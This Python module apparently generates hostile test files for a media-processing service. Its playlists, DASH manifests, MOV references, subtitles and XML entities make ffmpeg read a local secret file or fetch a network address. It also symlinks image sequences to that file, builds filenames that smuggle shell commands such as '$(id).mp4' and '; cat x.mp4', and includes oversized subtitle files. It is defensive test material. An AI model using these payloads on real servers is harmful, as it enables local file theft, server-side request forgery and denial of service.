"""Files that ask for other files: playlists, scripts, references, sequences, subtitles that include."""

import struct

from octavia_samples.hostile.boxes import box, full, movie, sound_entry, track
from octavia_samples.hostile.catalogue import Bait, Kind, Shelf

EXTENSIONS: dict[Kind, tuple[str, ...]] = {
    "video": ("mp4", "mov", "mkv", "webm", "avi", "ts", "flv", "mpg", "wmv", "m3u8", "ffconcat", "txt"),
    "audio": ("mp3", "wav", "flac", "ogg", "m4a", "aac"),
    "subtitle": ("srt", "vtt", "ass"),
    "image": ("png", "jpg", "webp"),
}


def hls(target: str, *more: str) -> str:
    """An HLS playlist (RFC 8216) of one segment."""
    return "\n".join(
        ("#EXTM3U", "#EXT-X-TARGETDURATION:9", *more, "#EXTINF:9,", target, "#EXT-X-ENDLIST", "")
    )


def concat(target: str) -> str:
    """A script of ffmpeg's concat demuxer."""
    return f"ffconcat version 1.0\nfile '{target}'\nduration 9\n"


def add_playlists(shelf: Shelf, bait: Bait) -> None:
    """Playlists of all kinds, the two that ffmpeg knows by their content under every extension."""
    for kind, extensions in EXTENSIONS.items():
        for extension in extensions:
            shelf.put(f"evil.{extension}", hls(f"file:{bait.secret}"), "HLS, a local segment", kind=kind)
            shelf.put(f"evil.{extension}", concat(str(bait.secret)), "concat, a local file", kind=kind)
    for name, content, about in _texts(bait):
        shelf.put(name, content, about)
    _add_disguises(shelf, bait)
    _add_references(shelf, bait)
    _add_subtitles(shelf, bait)
    _add_sequences(shelf, bait)
    _add_names(shelf, bait)


def _texts(bait: Bait) -> list[tuple[str, str, str]]:
    here, away = f"file:{bait.secret}", bait.address
    return [
        ("key.mp4", hls(here, f'#EXT-X-KEY:METHOD=AES-128,URI="{here}"'), "HLS, its key is a local file"),
        ("map.mp4", hls(here, f'#EXT-X-MAP:URI="{here}"'), "HLS, its first part is a local file"),
        ("away.mp4", hls(away), "HLS, a segment on the network"),
        ("crypto.mp4", hls(f"crypto+{away}"), "HLS, through another protocol"),
        ("data.mp4", hls("data:video/mp4;base64,AAAA"), "HLS, a segment in its address"),
        ("nested.mp4", hls(f"concat:{bait.secret}|{bait.secret}"), "HLS, the concat protocol"),
        ("master.mp4", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{away}\n", "HLS, a list of playlists"),
        ("options.mp4", concat(away) + "option protocol_whitelist file,tcp,http\n", "concat, lifts the ban"),
        ("bare.mp4", f"file '{bait.secret}'\n", "concat without its first line"),
        ("subfile.mp4", concat(f"subfile,,start,0,end,64,,:{bait.secret}"), "concat, through subfile"),
        ("talk.mpd", _dash(here), "DASH, local"),
        ("talk.mp4", _dash(away), "DASH, on the network"),
        ("entity.mp4", f'<!DOCTYPE MPD [<!ENTITY x SYSTEM "{here}">]>{_dash("&x;")}', "DASH, an XML entity"),
        ("cpl.mp4", _IMF.format(here), "IMF composition"),
        ("talk.sdp", _SDP, "SDP, listens for RTP"),
        ("sdp.mp4", _SDP, "SDP named mp4"),
        (
            "talk.xspf",
            f"<playlist><track><location>{away}</location></track></playlist>",
            "XSPF",
        ),
        ("talk.asx", f'<asx version="3.0"><entry><ref href="{away}"/></entry></asx>', "ASX"),
        ("talk.wmv", f"[Reference]\nRef1={away}\nRef2={here}\n", "Windows Media reference"),
        ("talk.pls", f"[playlist]\nFile1={away}\nNumberOfEntries=1\nVersion=2\n", "PLS"),
        ("talk.m3u", f"#EXTM3U\n{bait.secret}\n", "M3U"),
        ("talk.ram", f"rtsp://127.0.0.1:9/secret\n{away}\n", "RealAudio metafile"),
        ("talk.smil", f'<smil><body><video src="{away}"/></body></smil>', "SMIL"),
        ("talk.avs", f'DirectShowSource("{bait.secret}")\n', "AviSynth script"),
        ("talk.vpy", f'import vapoursynth; open("{bait.secret}").read()\n', "VapourSynth script"),
        ("graph.mp4", f"movie={bait.secret}\n", "ffmpeg's filter graph"),
        ("meta.mp4", f";FFMETADATA1\ntitle={away}\n", "ffmpeg's metadata"),
        ("talk.svg", f'<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="{here}"/></svg>', "SVG"),
        ("talk.mvg", f"push graphic-context\nimage over 0,0 0,0 '{away}'\npop graphic-context\n", "MVG"),
    ]


def _dash(target: str) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT9S" profiles="urn:mpeg:dash:profile:isoff-main:2011"><Period>'
        f'<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{target}'
        "</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )


_IMF = (
    '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{}</Id>'
    "</CompositionPlaylist>"
)
_SDP = (
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    "m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
)


def _add_disguises(shelf: Shelf, bait: Bait) -> None:
    """Playlists behind something that a reader may pass over."""
    text = hls(f"file:{bait.secret}").encode()
    tag = b"ID3\x04\x00\x00" + bytes((0, 0, 8, 0)) + bytes(1024)
    shelf.put("id3.mp3", tag + text, "HLS behind an ID3 tag", kind="audio")
    shelf.put("bom.mp4", b"\xef\xbb\xbf" + text, "HLS behind a byte order mark")
    shelf.put("wide.mp4", text.decode().encode("utf-16"), "HLS in UTF-16")
    shelf.put("blank.mp4", b"\n" * 4096 + text, "HLS behind blank lines")
    shelf.put("box.mp4", box(b"ftyp", b"isom", bytes(4)) + text, "HLS behind the first box of an MP4")
    shelf.put("free.mp4", box(b"free", bytes(2048)) + text, "HLS behind an empty box")
    shelf.put("riff.wav", b"RIFF\xff\xff\xff\xffWAVE" + text, "HLS in a WAV file", kind="audio")
    shelf.put("ebml.mkv", bytes.fromhex("1A45DFA3") + text, "HLS behind the mark of a Matroska")
    shelf.put("long.mp4", text + b"#" * 3_000_000, "HLS with much behind it")
    shelf.put("return.mp4", text.replace(b"\n", b"\r"), "HLS with the line ends of old")


def _add_references(shelf: Shelf, bait: Bait) -> None:
    """MP4 and MOV whose data lie elsewhere, as their format permits."""
    away = full(b"url ", bait.address.encode() + b"\0")
    local = full(b"url ", f"file:{bait.secret}".encode() + b"\0")
    for name, reference in (
        ("away.mov", away),
        ("local.mov", local),
        ("alias.mov", _alias(str(bait.secret))),
    ):
        picture = track(sound_entry(), references=reference)
        shelf.put(name, movie([picture]), "MOV, data in another file", kind="audio", refused=False)
    descriptor = full(
        b"rdrf", b"url ", struct.pack(">I", len(bait.address) + 1), bait.address.encode() + b"\0"
    )
    start = box(b"ftyp", b"qt  ", bytes(4))
    shelf.put(
        "ref.mov", start + box(b"moov", box(b"rmra", box(b"rmda", descriptor))), "MOV, a reference movie"
    )


def _alias(target: str) -> bytes:
    """An alias record as Mac OS wrote them; ffmpeg follows its tags 2 and 18 where it is told to."""
    record = bytearray(150)
    struct.pack_into(">H", record, 6, 2)
    name = target.encode()
    tagged = b"".join(
        struct.pack(">HH", kind, len(name)) + name + b"\0" * (len(name) % 2) for kind in (2, 18)
    )
    return full(b"alis", bytes(record) + tagged + struct.pack(">HH", 0xFFFF, 0))


def _add_subtitles(shelf: Shelf, bait: Bait) -> None:
    here = str(bait.secret)
    cue = "00:00:01.000 --> 00:00:02.000\n"
    style = f"WEBVTT\n\nSTYLE\n@import url({bait.address});\n\n{cue}Hello\n"
    shelf.put("style.vtt", style, "WebVTT, imports a style", kind="subtitle", refused=False)
    image = f'1\n00:00:01,000 --> 00:00:02,000\n<img src="file:{here}"/><font face="{here}">x</font>\n'
    shelf.put("image.srt", image, "SRT, an image in it", kind="subtitle", refused=False)
    events = "[Events]\nFormat: Layer, Start, End, Style, Text\nDialogue: 0,0:00:01.00,0:00:02.00,D,"
    head = f"[Script Info]\nScriptType: v4.00+\nVideo File: {here}\nAudio File: {here}\n\n"
    script = f"{head}{events}{{\\1img({here})}}x\n"
    shelf.put("video.ass", script, "ASS, names a video and an image", kind="subtitle", refused=False)
    shelf.put(
        "talk.idx",
        f"# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:01:000, filepos: 0\n{here}",
        "VobSub index, opens its .sub",
        kind="subtitle",
    )
    shelf.put(
        "talk.smi", f'<SAMI><BODY><SYNC Start=0><P><img src="{here}"></BODY></SAMI>', "SAMI", kind="subtitle"
    )
    shelf.put("talk.ttml", f'<tt><head><metadata xlink:href="{here}"/></head></tt>', "TTML", kind="subtitle")
    shelf.put("talk.rt", f'<window><a href="{here}">x</a></window>', "RealText", kind="subtitle")
    shelf.put(
        "lines.srt",
        "1\n00:00:00,000 --> 99:59:59,999\n" + "x" * 3_000_000,
        "SRT, one line of 3 MB",
        kind="subtitle",
        refused=False,
    )
    many = "".join(f"{i}\n00:00:01,000 --> 00:00:02,000\n{i}\n\n" for i in range(60_000))
    shelf.put("many.srt", many, "SRT, 60,000 lines at once", kind="subtitle", refused=False)


def _add_sequences(shelf: Shelf, bait: Bait) -> None:
    """Names that ffmpeg's image demuxer takes for patterns; their first file is what it would open."""
    text = b"not a picture"
    for name in ("frame-%03d.png", "frame-%d.jpg", "*.png", "?.jpg", "[a-z].webp"):
        shelf.put(name, text, "a pattern for a sequence of pictures", kind="image")
        directory = shelf.files[-1].path.parent
        for other in ("frame-000.png", "frame-0.jpg", "a.png", "a.jpg", "a.webp"):
            (directory / other).symlink_to(bait.secret)


def _add_names(shelf: Shelf, bait: Bait) -> None:
    """Playlists whose names are orders to a program."""
    for name in (
        "-i.mp4",
        "-y",
        "concat:a|b.mp4",
        "http:evil.mp4",
        "subfile,,start,0,end,0,,:a.mp4",
        "pipe:0",
        "'; cat x.mp4",
        "$(id).mp4",
        "a\nb.mp4",
        "%00.mp4",
        "talk.mp4?x=1#y",
        "\u202e4pm.evil",
    ):
        shelf.put(name, hls(f"file:{bait.secret}"), "a name that is an order")
